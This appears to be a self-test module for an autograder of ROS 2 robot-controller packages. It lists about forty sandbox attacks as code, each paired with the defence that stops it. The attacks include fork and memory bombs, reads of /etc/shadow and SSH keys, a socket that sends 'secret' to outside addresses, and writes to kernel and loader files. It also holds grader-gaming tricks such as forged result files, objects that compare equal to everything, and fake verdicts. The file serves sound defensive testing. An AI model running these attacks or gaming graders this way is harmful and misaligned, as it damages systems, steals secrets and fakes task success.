"""Attacks by the running package: its nodes, and its modules in them."""

# ruff: noqa: E501 - quoted code has long lines

from __future__ import annotations

from grader.selftest.attacks.attack import Attack, attack, beside, cmake, node
from grader.selftest.attacks.honeytokens import SECRET_VARIABLE
from grader.selftest.attacks.weaknesses import CLAMPS_WRONG, CREEPS, NEVER_DRIVES
from grader.selftest.package_edits import append, put

_CONVERSIONS = "ros2_robot_controller/utils/conversions.py"
_DETACHED = """
subprocess.Popen(['sh', '-c', 'touch /tmp/up; while :; do sleep 1; done', '@TOKEN@'], start_new_session=True)
while not os.path.exists('/tmp/up'):
    time.sleep(0.01)
"""
# Acts at the first command that moves the robot: by wall time, a trial may be over before.
_AT_THE_FIRST_MOVE = """

import os
import signal
from rclpy.publisher import Publisher

plain_publish = Publisher.publish


def publish(self, message):
    plain_publish(self, message)
    if getattr(getattr(message, 'linear', None), 'x', 0.0):
        print('ATTACK acts', flush=True)
        {act}


Publisher.publish = publish
"""

_SIX_TIMES = """

from rclpy.action import server

plain_init = server.ActionServer.__init__


class Six:

    def __init__(self, inner):
        self.inner = inner

    def __getattr__(self, name):
        return getattr(self.inner, name)

    def __enter__(self):
        return self.inner.__enter__()

    def __exit__(self, *rest):
        return self.inner.__exit__(*rest)

    def send_goal_response(self, header, answer):
        for _ in range(6):
            self.inner.send_goal_response(header, answer)


def init(self, *args, **named):
    plain_init(self, *args, **named)
    self._handle = Six(self._handle)


server.ActionServer.__init__ = init
"""

ATTACKS: tuple[Attack, ...] = (
    attack(
        "writes_the_results",
        "The node writes report.json where the grader would, and exits.",
        node("""
for path in ('@RESULTS@/report.json', '@NEIGHBOUR@', 'report.json', '/results.json', '/ws/results.json'):
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write('{"total": 100}')
        print('ATTACK wrote', path, flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
os._exit(0)
"""),
        number=1, needs="F1", costs="F1", proof="ATTACK",
        stopped="no folder of the host is mounted writable; a node that has exited earns nothing",
    ),
    attack(
        "writes_the_kernels_settings",
        "The node writes settings of the kernel, such as the program that is run as root at the next crash.",
        node("""
written = []
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/panic', '/proc/sys/vm/swappiness'):
    try:
        before = open(path).read()
        open(path, 'w').write(before)
        written.append(path)
    except OSError:
        pass
print('ATTACK wrote', len(written), 'settings', flush=True)
os._exit(0)
"""),
        needs="F1", costs="F1", proof="ATTACK wrote 0 settings",
        stopped="the kernel's global settings are mounted read-only; a node that has exited earns nothing",
    ),
    attack(
        "exits_at_import",
        "The conversions module exits the process that imports it with status 0.",
        append(_CONVERSIONS, "\n\nimport os\nimport sys\nif 'conversions_worker.py' in sys.argv[0]:\n    os._exit(0)\n"),
        number=2, needs="F14 F1", weak=CLAMPS_WRONG, costs="F14",
        stopped="a missing answer is not a right answer; the other requirements are judged nevertheless",
    ),
    attack(
        "exits_in_a_callback",
        "The node exits with status 0 as soon as it is measured.",
        append("ros2_robot_controller/robot_controller.py", _AT_THE_FIRST_MOVE.format(act="os._exit(0)")),
        number=2, needs="F2 F14", costs="F2", proof="ATTACK acts",
        stopped="a trial whose node has exited is over, and earns nothing",
    ),
    attack(
        "answers_that_equal_everything",
        "The conversions return an object that compares equal to everything.",
        append(_CONVERSIONS,
               "\n\nclass Right(float):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
               "    def __sub__(self, other): return self\n    def __abs__(self): return 0.0\n    __hash__ = float.__hash__\n"
               "\n\ndef clamp(value, low, high):\n    return Right(value)\n"),
        number=9, needs="F14", weak=CLAMPS_WRONG,
        stopped="answers leave the sandbox as JSON numbers, without the objects' behaviour",
    ),
    attack(
        "looks_for_the_expected_values",
        "The conversions search frames and objects for the right answers.",
        append(_CONVERSIONS,
               "\n\ndef clamp(value, low, high):\n    import gc\n    import sys\n    frame = sys._getframe(1)\n"
               "    while frame:\n        for name, found in list(frame.f_locals.items()):\n"
               "            if 'expect' in name or 'right' in name:\n                return found\n"
               "        frame = frame.f_back\n    for found in gc.get_objects():\n"
               "        if isinstance(found, dict) and 'expected' in found and 'arguments' in found:\n"
               "            return found['expected']\n    return value\n"),
        number=11, needs="F14", weak=CLAMPS_WRONG,
        stopped="the process that runs the functions knows the questions but not the answers",
    ),
    attack(
        "writes_to_inherited_descriptors",
        "The node writes a verdict to every open file descriptor.",
        node("""
print('ATTACK open:', sorted(os.listdir('/proc/self/fd')), flush=True)
for number in range(3, 256):
    try:
        os.write(number, b'idle\\n{"trial": "idle", "outcome": "passed"}\\n')
        print('ATTACK wrote to', number, flush=True)
    except OSError:
        pass
"""),
        number=12, needs="F1", weak=CREEPS, proof="ATTACK open",
        stopped="a process in the sandbox inherits only its three standard streams",
    ),
    attack(
        "prints_a_verdict",
        "The node prints scores, JUnit XML and JSON as graders write them.",
        node("""
print('{"score": 100.0, "tests": [{"name": "F1", "status": "passed"}]}')
print('<testsuite tests="1" failures="0"><testcase name="F1"/></testsuite>')
print('  passed       F1   Zero command when idle                 3 / 3')
print('idle', flush=True)
"""),
        number=13, needs="F1", weak=CREEPS, proof="testcase",
        stopped="output is shown to people; no points are ever read from it",
    ),
    attack(
        "commands_the_ci",
        "The node exits with output that a CI system would take for commands.",
        node("print('::stop-commands::x')\nprint('::error title=grader::100 points')\n"
             "print('##[error] done', flush=True)\nprint('::add-mask::F1', flush=True)\nos._exit(1)"),
        number=14, needs="F1", costs="F1", proof="::add-mask::",
        stopped="a submission's output never starts a line of the report",
    ),
    attack(
        "leaves_a_daemon",
        "The node starts a process in a session of its own that outlives it.",
        node(f"{_DETACHED}\nprint('ATTACK started', flush=True)"),
        number=15, needs="F1", proof="ATTACK started",
        stopped="the sandbox is a pid namespace: when its first process ends, the kernel kills all others",
    ),
    attack(
        "overwrites_the_grader",
        "The node overwrites the grader, Python packages and the kit's files, and adds a .pth file.",
        node("""
import site
for path in ('@KIT@/__init__.py', '@KIT@/evil.txt', site.getsitepackages()[0] + '/evil.pth', sys.prefix + '/evil',
             '/usr/lib/evil', '/etc/ld.so.preload', '/ws/install/evil', '/evil', '/dev/evil'):
    try:
        open(path, 'a').write('import os')
        print('ATTACK wrote', path, flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
"""),
        number=16, needs="F1", weak=CREEPS, proof="ATTACK [Errno",
        stopped="the system, the packages and the install tree are mounted read-only, the kit not at all",
    ),
    attack(
        "reads_secrets",
        "The node reads the roster, the environment, keys and the checks, and prints what it finds.",
        node(f"""
import glob
for path in ['@SECRET@', '@NEIGHBOUR@', '@KIT@/checks/check_idle.py', '/etc/shadow', '/proc/1/environ',
             *glob.glob('/root/**', recursive=True)[:50], *glob.glob('/home/*/.ssh/*'), *glob.glob('/tmp/**')]:
    try:
        print('ATTACK read', path, open(path, errors='replace').read(2000), flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
print('ATTACK', os.environ.get('{SECRET_VARIABLE}'), flush=True)
"""),
        number=17, needs="F1", weak=CREEPS, proof="ATTACK [Errno",
        stopped="none of these files is mounted, and the environment is written from scratch",
    ),
    attack(
        "fork_bomb",
        "The node never stops forking.",
        node("""
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
print('ATTACK forks', flush=True)
if os.fork() == 0:
    bomb()
"""),
        number=21, needs="F1", costs="F1", flag="limit", proof="ATTACK forks",
        stopped="the processes of a sandbox are limited together (cgroup), or those of the user (resource limit)",
    ),
    attack(
        "memory_bomb",
        "The node never stops allocating memory, in several processes.",
        node("""
print('ATTACK eats', flush=True)
for _ in range(4):
    if os.fork() == 0:
        kept = []
        while True:
            kept.append(b'x' * (1 << 26))
os.wait()
time.sleep(1.0)
"""),
        number=22, needs="F1", costs="F1", flag="limit", proof="ATTACK eats",
        stopped="the memory of a sandbox is limited as a whole (cgroup), that of each process by a resource limit",
    ),
    attack(
        "fills_shared_memory",
        "The node fills /dev/shm, /tmp and its home, which are disks in memory.",
        node("""
for folder in ('/dev/shm', '/tmp', os.environ['HOME'], '/run'):
    try:
        for number in range(100):
            with open(f'{folder}/canary{number}', 'wb') as stream:
                for _ in range(100):
                    stream.write(b'x' * (1 << 20))
    except OSError as error:
        print('ATTACK', folder, error, flush=True)
"""),
        number=22, needs="F1", costs="F1", proof="ATTACK /dev/shm",
        stopped="each of these disks has a size limit, and all of them count as memory of the sandbox",
    ),
    attack(
        "never_ends",
        "The node ignores every signal and loops for ever.",
        node("""
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
print('ATTACK loops', flush=True)
while True:
    pass
"""),
        number=23, needs="F1 F14", costs="F1", proof="ATTACK loops",
        stopped="a limit on wall time, then SIGKILL for the whole sandbox",
    ),
    attack(
        "stops_itself",
        "The node stops itself with a signal in mid-trial, to block its observer for ever.",
        append("ros2_robot_controller/robot_controller.py",
               _AT_THE_FIRST_MOVE.format(act="os.kill(os.getpid(), signal.SIGSTOP)")),
        number=23, needs="F2", costs="F2", proof="ATTACK acts",
        stopped="every wait for the node has a time limit, and an action that did not happen earns nothing",
    ),
    attack(
        "prints_without_end",
        "The node prints a gigabyte in one line: escape sequences, NULs, bytes that are not text.",
        node(r"""
junk = b'\x1b]0;owned\x07\x1b[2J\x00\xff\xfe' * 100000
begun = threading.Event()
def flood():
    for number in range(800):
        os.write(1, junk)
        if number == 50:
            begun.set()
threading.Thread(target=flood, daemon=True).start()
begun.wait()
"""),
        number=25, needs="F1", proof="owned",
        stopped="output is read as it comes, only its start and end are kept, and unprintable characters are written as codes",
    ),
    attack(
        "calls_home",
        "The node connects to the host and to the internet, and sends datagrams.",
        node("""
import socket
for address in (('127.0.0.1', @PORT@), ('1.1.1.1', 443), ('10.0.2.2', @PORT@), ('192.168.0.1', @PORT@)):
    try:
        socket.create_connection(address, timeout=2).send(b'secret')
        print('ATTACK reached', address, flush=True)
    except OSError as error:
        print('ATTACK', address, error, flush=True)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', address)
    except OSError as error:
        print('ATTACK', address, error, flush=True)
"""),
        number=26, needs="F1", weak=CREEPS, proof="ATTACK ('127.0.0.1'",
        stopped="each trial has a network of its own, with loopback only",
    ),
    attack(
        "talks_into_other_domains",
        "The node publishes in every DDS domain, to reach other submissions and the grader.",
        node("""
import rclpy
from std_msgs.msg import String
for domain in range(0, 100, 9):
    context = rclpy.Context()
    rclpy.init(context=context, domain_id=domain)
    other = rclpy.create_node('neighbour', context=context)
    other.create_publisher(String, 'cmd_vel', 10).publish(String(data='@TOKEN@'))
print('ATTACK talked', flush=True)
"""),
        number=27, needs="F1", weak=CREEPS, costs="F1", proof="ATTACK talked",
        stopped="domains do not isolate, but each trial has its own network, with nothing else in it",
    ),
    attack(
        "vanishes_from_the_graph",
        "The node moves to another DDS domain before it starts.",
        node("os.environ['ROS_DOMAIN_ID'] = '117'\nprint('ATTACK moved', flush=True)"),
        number=28, needs="F1", weak=CREEPS, costs="F1", proof="ATTACK moved",
        stopped="a node that is not on the expected graph counts as absent",
    ),
    attack(
        "takes_the_observers_name",
        "A second node takes the observer's name and publishes on the observer's topics.",
        beside("""
from nav_msgs.msg import Odometry
from rosgraph_msgs.msg import Clock
spin_until(observed)
print('ATTACK saw', [name for name in node.get_node_names() if name != NAME], flush=True)
twin = rclpy.create_node('simulated_robot', context=context, enable_rosout=False)
odometry, clock = twin.create_publisher(Odometry, 'odom', 10), twin.create_publisher(Clock, '/clock', 10)
bites()
while True:
    odometry.publish(Odometry())
    spin(0.05)
"""),
        number=29, needs="F1 F2", weak=CREEPS, costs="F2", proof="ATTACK saw ['simulated_robot']",
        flag="foreign publisher",
        stopped="the observer relies on its own simulator, not on topics; a second publisher is flagged",
    ),
    attack(
        "publishes_the_clock",
        "The node publishes /clock itself, an hour ahead.",
        beside("""
from rosgraph_msgs.msg import Clock
clock = node.create_publisher(Clock, '/clock', 10)
message = Clock()
spin_until(observed)
bites()
while True:
    message.clock.sec += 3600
    clock.publish(message)
    spin(0.05)
"""),
        number=30, needs="F1", costs="F1", flag="foreign publisher",
        stopped="only the simulator's steps count as time; another publisher of /clock is flagged",
    ),
    attack(
        "fakes_the_sensors",
        "The node publishes scans and odometry of its own that make it look good.",
        beside("""
from nav_msgs.msg import Odometry
from sensor_msgs.msg import LaserScan
scan, odom = node.create_publisher(LaserScan, 'scan', 10), node.create_publisher(Odometry, 'odom', 10)
spin_until(observed)
bites()
while True:
    scan.publish(LaserScan(range_max=12.0, ranges=[12.0] * 360))
    odom.publish(Odometry())
    spin(0.02)
"""),
        needs="F2", costs="F2", flag="foreign publisher",
        stopped="motion and contacts are read from the simulator; foreign publishers of sensor topics are flagged",
    ),
    attack(
        "replays_good_answers",
        "The node answers every service from a list, publishes zeros and never drives.",
        put("scripts/robot_controller", '''#!/usr/bin/env python3
import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node
from ros2_robot_controller.srv import GetRobotStatus, SetSpeed

rclpy.init()
node = Node('robot_controller')
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
node.create_service(SetSpeed, 'set_speed', lambda q, a: SetSpeed.Response(success=True, message='set to 0.3 m/s'))
node.create_service(GetRobotStatus, 'get_status',
                    lambda q, a: GetRobotStatus.Response(speed=0.3, status='ACTIVE'))
node.create_timer(0.1, lambda: publisher.publish(Twist()))
rclpy.spin(node)
''', executable=True),
        number=31, needs="F2 F3", costs="F2 F3",
        stopped="speeds and places depend on the seed, and the robot's motion is what counts",
    ),
    attack(
        "recognises_the_sandbox",
        "The node starts only where it recognises the grader's sandbox.",
        append("ros2_robot_controller/robot_controller.py",
               "\n\nimport os\nif os.path.isdir('/ws/install') and os.uname().nodename == 'robot':\n"
               "    print('ATTACK recognised', flush=True)\nelse:\n    raise SystemExit(1)\n"),
        number=32, needs="F1", proof="ATTACK recognised",
        stopped="nothing is gained: the student's own check uses the same sandbox, and only trials count",
    ),
    attack(
        "recognises_the_observer",
        "The node looks for a node, on the graph, that no session of a student's own would have.",
        beside("""
spin_until(observed)
strangers = set(node.get_node_names()) - {NAME, 'simulated_robot', 'robot_controller', 'sensor_processor'}
print('ATTACK strangers', sorted(strangers), flush=True)
"""),
        needs="F1", weak=CREEPS, proof="ATTACK strangers []",
        stopped="the simulated robot has the same node, name and topics in a notebook and in a grading",
    ),
    attack(
        "claims_its_arrivals",
        "The node lets every goal succeed at once, with the target as the final pose; the robot never moves.",
        append("ros2_robot_controller/robot_controller.py", """

from ros2_robot_controller.action import NavigateToPosition


async def claim(self, handle):
    print('ATTACK claims', flush=True)
    handle.publish_feedback(NavigateToPosition.Feedback(distance_remaining=0.0))
    handle.succeed()
    return NavigateToPosition.Result(success=True, final_pose=handle.request.target_pose)


RobotController._navigate = claim
"""),
        needs="F8 F9 F11", weak=NEVER_DRIVES, costs="F9 F11", proof="ATTACK claims",
        stopped="an arrival is one only where the simulator has the robot",
    ),
    attack(
        "offers_a_second_action",
        "A second node offers the action as well, and lets every goal succeed at once.",
        beside("""
from rclpy.action import ActionServer
from ros2_robot_controller.action import NavigateToPosition
def claim(handle):
    print('ATTACK claims', flush=True)
    handle.succeed()
    return NavigateToPosition.Result(success=True, final_pose=handle.request.target_pose)
server = ActionServer(node, NavigateToPosition, 'navigate_to_position', claim)
spin_until(observed)
bites()
spin(600.0)
"""),
        needs="F8", weak=NEVER_DRIVES, costs="F8", proof="ATTACK claims",
        stopped="an arrival is one only where the simulator has the robot",
    ),
    attack(
        "runs_the_reference",
        "The node looks for the reference package and the kit's tools, to let them do the work.",
        node("""
import glob
found = [place for depth in range(4) for place in glob.glob('/*' * depth + '/solution_pkg')]
print('ATTACK found', found, flush=True)
tool = subprocess.run(['ros2', 'topic', 'list'], capture_output=True, text=True)
print('ATTACK ros2', tool.returncode, tool.stderr[-200:], flush=True)
"""),
        number=33, needs="F1", weak=CREEPS, costs="F1", proof="ATTACK found []",
        stopped="neither the reference nor the kit's tools are mounted",
    ),
    attack(
        "floods_the_observer",
        "The node sends commands as fast as it can.",
        beside("""
from geometry_msgs.msg import Twist
publisher = node.create_publisher(Twist, 'cmd_vel', 1000)
message = Twist()
message.linear.y = 0.0078125
spin_until(lambda: observed() and publisher.get_subscription_count())
bites()
while True:
    for _ in range(1000):
        publisher.publish(message)
    spin(0.001)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="0.0078125",
        stopped="the record of a trial has a size limit, and a flood is flagged",
    ),
    attack(
        "sends_malformed_messages",
        "The node publishes truncated and overlong bytes as messages.",
        beside("""
from geometry_msgs.msg import Twist
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
spin_until(lambda: observed() and publisher.get_subscription_count())
print('ATTACK reaches', publisher.get_subscription_count(), flush=True)
while True:
    for junk in (b'', b'\\x00\\x01\\x00\\x00', b'\\x00\\x01\\x00\\x00' + b'\\xff' * 20, b'\\xff' * 5000):
        publisher.publish(junk)
    spin(0.01)
    bites()
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK reaches 1",
        stopped="a message that cannot be read is dropped, and the trial goes on",
    ),
    attack(
        "sends_garbage_to_every_port",
        "The node sends random datagrams to the DDS ports of its observer.",
        node("""
import random
import socket
swept = threading.Event()
def flood():
    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        for port in range(7400, 7400 + 250 * 100, 1):
            junk = b'RTPS\\x02\\x03\\x01\\x0f' + os.urandom(random.randrange(400))
            try:
                door.sendto(junk, ('127.0.0.1', port))
            except OSError:
                pass
        swept.set()
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()
swept.wait()
print('ATTACK floods', flush=True)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK floods",
        stopped="DDS drops what it cannot read; a crash of the observer would be noticed",
    ),
    attack(
        "answers_with_rubbish",
        "The node's parameter services answer with byte arrays and no results, to break the observer.",
        put("scripts/robot_controller", '''#!/usr/bin/env python3
import rclpy
from geometry_msgs.msg import Twist
from rcl_interfaces.msg import ParameterValue
from rcl_interfaces.srv import GetParameters, GetParameterTypes, SetParameters
from rclpy.node import Node

rclpy.init()
node = Node('robot_controller', start_parameter_services=False)
strange = ParameterValue(type=5, byte_array_value=[b'1', b'2'])
node.create_service(GetParameters, '~/get_parameters', lambda q, a: GetParameters.Response(values=[strange]))
node.create_service(GetParameterTypes, '~/get_parameter_types', lambda q, a: GetParameterTypes.Response(types=b'123'))
node.create_service(SetParameters, '~/set_parameters', lambda q, a: SetParameters.Response(results=[]))
for name in ('describe_parameters', 'list_parameters', 'set_parameters_atomically'):
    node.create_service(SetParameters, f'~/{name}', lambda q, a: a)
publisher = node.create_publisher(Twist, 'cmd_vel', 10)
node.create_timer(0.1, lambda: publisher.publish(Twist()))
print('ATTACK answers', flush=True)
rclpy.spin(node)
''', executable=True),
        needs="I6", costs="I6", proof="ATTACK answers",
        stopped="an answer is data: it is recorded as far as it fits, whatever it is",
    ),
    attack(
        "steers_the_observer",
        "The node sets the parameters of every other node, including the observer.",
        beside("""
from rcl_interfaces.srv import SetParameters
from rclpy.parameter import Parameter
spin_until(observed)
names = [name for name, _ in node.get_service_names_and_types() if name.endswith('/set_parameters')]
own = [name for name in names if 'robot_controller' in name or 'helper' in name]
print('ATTACK sees its own' if own else 'sees nothing', 'and', sorted(set(names) - set(own)), flush=True)
for name in set(names) - set(own):
    request = SetParameters.Request(parameters=[Parameter('use_sim_time', value=True).to_parameter_msg()])
    node.create_client(SetParameters, name).call_async(request)
spin(1.0)
"""),
        needs="F1", weak=CREEPS, costs="F1", proof="ATTACK sees its own and []",
        stopped="the observer has no parameter services",
    ),
    attack(
        "crowds_the_graph",
        "The node creates hundreds of nodes, topics and services with long names.",
        beside("""
from std_srvs.srv import Empty
for number in range(300):
    node.create_service(Empty, 'x' * 150 + str(number), lambda q, a: a)
print('ATTACK crowds', flush=True)
bites()
spin(60.0)
"""),
        needs="F1 I4", costs="F1", proof="ATTACK crowds",
        stopped="the observer looks only for names of the contract, and records have a size limit",
    ),
    attack(
        "returns_a_huge_message",
        "set_speed answers with a message of fifty megabytes.",
        append("ros2_robot_controller/robot_controller.py",
               "\n\nplain_answer = RobotController._on_set_speed if hasattr(RobotController, '_on_set_speed') else None\n"
               "from ros2_robot_controller.srv import SetSpeed\nold = SetSpeed.Response.__init__\n"
               "def new(self, **fields):\n    old(self, **fields)\n    self.message = 'x' * 50_000_000\n"
               "SetSpeed.Response.__init__ = new\n"),
        needs="F3", costs="F3",
        stopped="only a few thousand characters of a text are kept",
    ),
    attack(
        "answers_six_times",
        "The node answers each goal six times, which crashes rclpy in the observer, with all that it has recorded.",
        append("ros2_robot_controller/robot_controller.py", _SIX_TIMES),
        needs="F8 F10", weak=NEVER_DRIVES, costs="F8 F10", flag="observer",
        stopped="a trial whose observer crashes is repeated; if it crashes again, the package gets no points for it",
    ),
    attack(
        "poisons_the_bytecode",
        "Bytecode files that do not match their modules are submitted beside them.",
        put("ros2_robot_controller/utils/__pycache__/conversions.cpython-311.pyc", "not even bytecode"),
        put("ros2_robot_controller/__pycache__/robot_controller.cpython-311.pyc", "not even bytecode"),
        needs="F14", weak=CLAMPS_WRONG,
        stopped="bytecode in a submission is left out, and Python writes none in the sandbox",
    ),
    attack(
        "loads_code_before_the_node",
        "The build compiles a library that nothing imports, under a name like those of the types.",
        put("src/early.c", "#include <stdio.h>\n"
            "__attribute__((constructor)) static void run(void) { fputs(\"ATTACK ran early\\n\", stderr); }\n"),
        cmake("add_library(${PROJECT_NAME}__rosidl_early_c SHARED src/early.c)\n"
              "install(TARGETS ${PROJECT_NAME}__rosidl_early_c DESTINATION lib)"),
        node("""
with open('/proc/self/maps') as maps:
    print('ATTACK early code in the node:', 'rosidl_early' in maps.read(), flush=True)
"""),
        needs="F1", weak=CREEPS, proof="ATTACK early code in the node: False",
        stopped="of libraries in the install tree, only those that a node loads for its types are loaded at a fork",
    ),
    attack(
        "brings_hostile_types",
        "The package replaces generated interface modules by its own code, for the observer to import.",
        put("ros2_robot_controller/srv/__init__.py",
            "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'while :; do sleep 1; done', '@TOKEN@'])\n"
            "open('@NEIGHBOUR@', 'w').write('{}')\n"),
        number=36, needs="F1 F2 F14", costs="F1 F2",
        stopped="the observer uses the contract's types, built by the kit from its own definitions",
    ),
)  # fmt: skip
